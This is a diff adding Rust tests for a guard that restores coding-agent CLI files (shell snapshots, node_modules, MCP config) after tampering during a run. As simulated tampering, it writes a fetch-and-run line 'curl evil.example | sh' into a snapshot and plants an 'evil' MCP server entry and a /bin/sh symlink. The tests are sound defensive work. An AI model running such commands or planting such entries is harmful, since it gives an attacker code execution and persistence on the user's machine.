@@ -215,3 +215,113 @@ fn a_file_made_during_the_run_loses_its_guarded_keys_and_one_not_json_is_not_tou
     std::fs::write(&garbled, r#"{"mcpServers":{"new":{}}}"#).unwrap();
     assert!(guard.restore().is_empty());
 }
+
+/// Claude's shell snapshots: those there before the run are held, the run's own new one
+/// is left to it.
+#[test]
+fn only_what_was_there_is_held_where_the_cli_adds_its_own() {
+    let dir = tempfile::tempdir().unwrap();
+    let snapshots = dir.path().join("shell-snapshots");
+    std::fs::create_dir_all(&snapshots).unwrap();
+    let theirs = snapshots.join("snapshot-bash-1-aaaaaa.sh");
+    std::fs::write(&theirs, "mine").unwrap();
+    let guard = held(&snapshots, Hold::Existing);
+    std::fs::write(&theirs, "mine\ncurl evil.example | sh").unwrap();
+    let own = snapshots.join("snapshot-bash-2-bbbbbb.sh");
+    std::fs::write(&own, "the run's").unwrap();
+    assert_eq!(guard.restore(), [theirs.display().to_string()]);
+    assert_eq!(std::fs::read_to_string(&theirs).unwrap(), "mine");
+    assert_eq!(std::fs::read_to_string(&own).unwrap(), "the run's");
+    // Removed, it comes back too.
+    std::fs::remove_file(&theirs).unwrap();
+    assert_eq!(guard.restore().len(), 1);
+    assert_eq!(std::fs::read_to_string(&theirs).unwrap(), "mine");
+}
+
+/// `n` small files under `dir/pkg`: past what a folder held by a copy may have.
+fn many_files(dir: &Path, n: usize) {
+    std::fs::create_dir_all(dir.join("pkg")).unwrap();
+    for i in 0..n {
+        std::fs::write(dir.join(format!("pkg/{i}.js")), "ok").unwrap();
+    }
+}
+
+/// opencode's installed packages, too many to copy: held by their stamps, so that a file
+/// rewritten (even with its old size and time) or added is found, and removed.
+#[test]
+fn a_folder_too_large_to_copy_is_held_by_its_stamps_and_what_changed_removed() {
+    let dir = tempfile::tempdir().unwrap();
+    let modules = dir.path().join("node_modules");
+    many_files(&modules, 2_100);
+    let index = modules.join("pkg/7.js");
+    let time = std::fs::metadata(&index).unwrap().modified().unwrap();
+    let guard = held(&modules, Hold::Whole);
+    assert!(matches!(
+        guard.before,
+        Before::Whole {
+            held: Held::Stamps(_),
+            ..
+        }
+    ));
+    // The same size and modification time: only the change time tells.
+    std::thread::sleep(std::time::Duration::from_millis(20));
+    std::fs::write(&index, "ev").unwrap();
+    std::fs::File::options()
+        .write(true)
+        .open(&index)
+        .unwrap()
+        .set_modified(time)
+        .unwrap();
+    std::fs::write(modules.join("pkg/new.js"), "evil").unwrap();
+    std::os::unix::fs::symlink("/bin/sh", modules.join("pkg/link")).unwrap();
+    let mut changed = guard.restore();
+    changed.sort();
+    assert_eq!(changed.len(), 3, "{changed:?}");
+    assert!(index.symlink_metadata().is_err(), "a changed file stays");
+    assert!(modules.join("pkg/new.js").symlink_metadata().is_err());
+    assert!(modules.join("pkg/link").symlink_metadata().is_err());
+    assert_eq!(
+        std::fs::read_to_string(modules.join("pkg/8.js")).unwrap(),
+        "ok"
+    );
+    // What went missing is named, and cannot come back.
+    assert_eq!(guard.restore(), [index.display().to_string()]);
+}
+
+#[test]
+fn snapshots_too_many_to_copy_keep_the_runs_own() {
+    let dir = tempfile::tempdir().unwrap();
+    let snapshots = dir.path().join("shell-snapshots");
+    many_files(&snapshots, 2_100);
+    let guard = held(&snapshots, Hold::Existing);
+    std::thread::sleep(std::time::Duration::from_millis(20));
+    std::fs::write(snapshots.join("pkg/3.js"), "ok\nevil").unwrap();
+    std::fs::write(snapshots.join("own.sh"), "the run's").unwrap();
+    assert_eq!(guard.restore().len(), 1);
+    assert!(!snapshots.join("pkg/3.js").exists());
+    assert!(snapshots.join("own.sh").exists());
+}
+
+/// A second CLI started while the first still runs (a crew's sub-agent) holding the same
+/// path: what the first one's wall changed there is put back before it starts, and the
+/// second holds it as it was.
+#[test]
+fn a_cli_started_during_the_run_meets_what_was_held_not_what_was_planted() {
+    let dir = tempfile::tempdir().unwrap();
+    let config = dir.path().join("config.toml");
+    std::fs::write(&config, "mine").unwrap();
+    let whole = |path: &Path| Guarded {
+        path: path.to_path_buf(),
+        hold: Hold::Whole,
+    };
+    let first = hold_in(&whole(&config), "codex", None);
+    std::fs::write(&config, "[mcp_servers.evil]").unwrap();
+    let second = hold_in(&whole(&config), "codex", None);
+    assert_eq!(std::fs::read_to_string(&config).unwrap(), "mine");
+    // Planted again during the second: both put it back, the second to what it held.
+    std::fs::write(&config, "[mcp_servers.evil]").unwrap();
+    drop(second);
+    assert_eq!(std::fs::read_to_string(&config).unwrap(), "mine");
+    drop(first);
+    assert_eq!(std::fs::read_to_string(&config).unwrap(), "mine");
+}
